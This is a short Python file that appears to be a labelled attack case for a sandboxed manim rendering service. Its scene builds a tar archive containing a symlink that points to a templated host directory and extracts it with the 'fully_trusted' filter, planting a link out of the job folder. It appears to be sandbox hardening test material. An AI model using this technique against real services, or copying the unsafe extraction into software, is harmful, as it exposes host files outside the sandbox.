# family: file
# layer: sandbox
# attack: an unpacked archive puts a symlinked folder in the job (media -> host)
import io
import os
import tarfile
from manim import *


class Attack(Scene):
    def construct(self):
        os.makedirs("pack", exist_ok=True)
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as tar:
            info = tarfile.TarInfo("media2")
            info.type, info.linkname = tarfile.SYMTYPE, "{{HOST_DIR}}"
            tar.addfile(info)
        buf.seek(0)
        with tarfile.open(fileobj=buf) as tar:
            tar.extractall(".", filter="fully_trusted")
        self.wait(0.1)
